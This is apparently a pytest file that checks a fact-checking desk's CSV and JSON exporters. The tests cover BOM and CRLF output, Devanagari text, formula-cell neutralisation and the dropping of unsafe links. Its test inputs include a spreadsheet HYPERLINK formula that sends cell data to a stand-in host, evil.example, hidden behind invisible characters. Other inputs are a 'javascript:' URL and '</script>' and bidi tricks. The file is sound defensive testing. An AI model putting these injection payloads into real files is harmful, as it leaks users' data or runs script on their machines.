from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from desk.publish import to_csv, to_json
from desk.publish.records import CSV_COLUMNS
from desk.publish.sanitize import clean_text

# An independent statement of the rule, so the test does not reuse the code it checks.
TRIGGERS = set("=+-@\t\r") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}


def spreadsheet_would_evaluate(cell: str) -> bool:
    visible = [ch for ch in cell if not (ch in " \n" or unicodedata.category(ch) in ("Zs", "Cf"))]
    return bool(visible) and visible[0] in TRIGGERS or cell[:1] in TRIGGERS


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_every_cell_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert cell.startswith("'") or not spreadsheet_would_evaluate(cell), (column, cell)


def test_csv_round_trips_devanagari_with_bom_and_crlf(make_rebuttal):
    r = make_rebuttal()
    data = to_csv([r, make_rebuttal(id=43, lang="en", verdict="misleading")]).content
    assert data.count(b"\r\n") >= 3 and data.endswith(b"\r\n")
    rows = read_csv(data)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == 2
    first = rows[0]
    assert first["id"] == "42" and first["version"] == "3"
    assert first["verdict_label"] == "गलत"
    assert first["claims"] == r.claim_texts[0]
    assert first["full_text"] == r.full_text
    assert first["sources"].split("\n")[0] == "National Food Security Portal – https://nfsa.gov.in"
    assert first["translation_langs"] == "en"
    assert rows[1]["verdict_label"] == "Misleading"
    assert_every_cell_safe(rows)


def test_csv_of_nothing_is_a_header(make_rebuttal):
    result = to_csv([])
    assert read_csv(result.content) == []
    assert result.content.decode("utf-8-sig").strip() == ",".join(CSV_COLUMNS)


def test_csv_keeps_quotes_commas_and_newlines_inside_cells(make_rebuttal):
    claim = 'He said "free, for all"\nand left; ok'
    rows = read_csv(to_csv([make_rebuttal(claim_texts=[claim, "second claim"])]).content)
    assert rows[0]["claims"] == claim + "\nsecond claim"


HIDING = ["", " ", "  ", "\u00a0", "\u200b", "\u200d", "\ufeff", "\u2060", "\u202e", "\u200f", "\u2066",
          "\u00ad", " \u200b\u00a0"]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff20"]
FIELDS = {
    "claims": lambda v: {"claim_texts": [v]},
    "title": lambda v: {"title": v},
    "full_text": lambda v: {"full_text": v},
    "whatsapp_text": lambda v: {"whatsapp_text": v},
    "author": lambda v: {"author": v},
    "region_name": lambda v: {"region_name": v},
    "topics": lambda v: {"topics": [v]},
    "sources": lambda v: {"sources": [{"title": v}]},
}


@pytest.mark.parametrize("field", sorted(FIELDS))
@pytest.mark.parametrize("hide", HIDING)
@pytest.mark.parametrize("trigger", DANGEROUS)
def test_formula_cells_are_neutralised_behind_any_prefix(make_rebuttal, field, hide, trigger):
    payload = f'{hide}{trigger}HYPERLINK("http://evil.example/?"&A1,"Click")'
    result = to_csv([make_rebuttal(**FIELDS[field](payload))])
    rows = read_csv(result.content)
    cell = rows[0][field]
    assert cell == "'" + clean_text(payload).text  # the text is kept, only prefixed
    assert_every_cell_safe(rows)
    assert any(w.code == "formula_neutralized" and w.field == field for w in result.warnings)


@pytest.mark.parametrize("cell", ["-5 rupees", "+91 98XXXXXX21", "@everyone", "=SUM(A1:A9)"])
def test_plausible_but_dangerous_text_is_prefixed_not_lost(make_rebuttal, cell):
    rows = read_csv(to_csv([make_rebuttal(title=cell)]).content)
    assert rows[0]["title"] == "'" + cell


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=st.text(st.sampled_from(" \u00a0\u200b\u200c\u200d\u2060\ufeff\u202a\u202e\u2066\u2069\u200e\u3000\n\t"),
                      max_size=5),
       trigger=st.sampled_from(sorted(TRIGGERS)),
       rest=st.text(max_size=40))
def test_property_no_cell_is_ever_a_formula(make_rebuttal, prefix, trigger, rest):
    value = prefix + trigger + rest
    if not clean_text(value).text.strip():
        return
    rows = read_csv(to_csv([make_rebuttal(title=value, author=value, claim_texts=[value])]).content)
    assert_every_cell_safe(rows)


def test_json_parses_and_carries_every_field(make_rebuttal):
    r = make_rebuttal()
    result = to_json([r], generated_at="2026-11-22T10:15:00Z")
    assert result.media_type == "application/json"
    doc = json.loads(result.content.decode("utf-8"))
    assert doc["format"] == "fact-desk/rebuttals" and doc["version"] == 1
    assert doc["generated_at"] == "2026-11-22T10:15:00Z" and doc["count"] == 1
    rec = doc["rebuttals"][0]
    assert rec["id"] == 42 and rec["version"] == 3
    assert rec["verdict"] == "false" and rec["verdict_label"] == {"en": "False", "hi": "गलत"}
    assert rec["claims"] == list(r.claim_texts)
    assert rec["full_text"] == r.full_text
    assert rec["translations"]["en"]["whatsapp_text"].startswith("*This is false.*")
    assert rec["sources"][0] == {"url": "https://nfsa.gov.in", "title": "National Food Security Portal",
                                 "publisher": "GoI", "date": "2026-11"}
    assert rec["region"] == {"code": "UP-LKO", "name": "Lucknow"}
    assert rec["url"] == "https://factdesk.example.org/r/42"
    assert "राशन" in result.content.decode("utf-8")  # readable UTF-8, not \u escapes


def test_json_leaves_out_private_group_names(make_rebuttal):
    data = to_json([make_rebuttal()]).content.decode("utf-8")
    assert "Lucknow Nagrik Suchna" not in data
    appearances = json.loads(data)["rebuttals"][0]["appearances"]
    assert appearances[0] == {"channel": "whatsapp", "url": None, "first_seen": "2026-11-20T08:00:00Z"}


def test_json_of_hostile_text_stays_valid_and_literal(make_rebuttal):
    claim = '</script>"quoted"\\ \u2028 \x00 \u202egnp.exe {"a": 1}'
    result = to_json([make_rebuttal(claim_texts=[claim],
                                    sources=[{"url": "javascript:alert(1)", "title": "t"}])])
    rec = json.loads(result.content)["rebuttals"][0]
    assert rec["claims"] == ['</script>"quoted"\\ \n  gnp.exe {"a": 1}']
    assert rec["sources"][0]["url"] is None
    assert {"bidi_stripped", "control_stripped", "unsafe_link_dropped", "markup_in_text"} <= result.codes()


def test_json_of_nothing(make_rebuttal):
    doc = json.loads(to_json([]).content)
    assert doc["count"] == 0 and doc["rebuttals"] == []
